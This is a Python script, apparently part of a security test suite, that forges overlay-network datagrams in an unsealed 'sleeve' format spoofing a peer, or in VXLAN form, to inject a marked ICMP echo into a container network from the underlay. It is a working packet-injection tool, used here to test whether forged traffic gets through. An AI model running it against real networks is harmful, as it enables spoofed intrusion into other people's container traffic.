#!/usr/bin/env python3
"""Forges a datagram carrying an ICMP echo for a container, as an attacker on the underlay
would, for the injection scenarios.

    forge-datagram.py sleeve TO_IP SOURCE_PEER DEST_PEER DST_MAC DST_IP
    forge-datagram.py vxlan  TO_IP DST_MAC DST_IP

sleeve: an unsealed sleeve datagram (UDP 6783) claiming to come from SOURCE_PEER (its name as
source and sender), for DEST_PEER. vxlan: a VXLAN datagram (UDP 6784, VNI 6784). The echo
carries the pattern WEFTFORGED, for a capture to look for. Prints the bytes sent.
"""
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def mac(text):
    return bytes(int(x, 16) for x in text.split(":"))


def frame(dst_mac, dst_ip):
    icmp = struct.pack("!BBHHH", 8, 0, 0, 0x7777, 1) + b"WEFTFORGED" * 4
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    src_ip = socket.inet_aton("10.32.255.254")
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 1, 0, 64, 1, 0, src_ip, socket.inet_aton(dst_ip))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return mac(dst_mac) + mac("02:00:00:00:99:99") + b"\x08\x00" + ip + icmp


kind, to = sys.argv[1], sys.argv[2]
if kind == "sleeve":
    source, dest, dst_mac, dst_ip = sys.argv[3:7]
    # version 2, flags 0 (unsealed), hops 8, reserved; source, destination, sender; counter.
    header = bytes([2, 0, 8, 0]) + mac(source) + mac(dest) + mac(source) + struct.pack("!Q", 1 << 40)
    f = frame(dst_mac, dst_ip)
    payload, port = header + struct.pack("!H", len(f)) + f, 6783
else:
    dst_mac, dst_ip = sys.argv[3:5]
    payload, port = struct.pack("!II", 0x08000000, 6784 << 8) + frame(dst_mac, dst_ip), 6784
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print(s.sendto(payload, (to, port)))
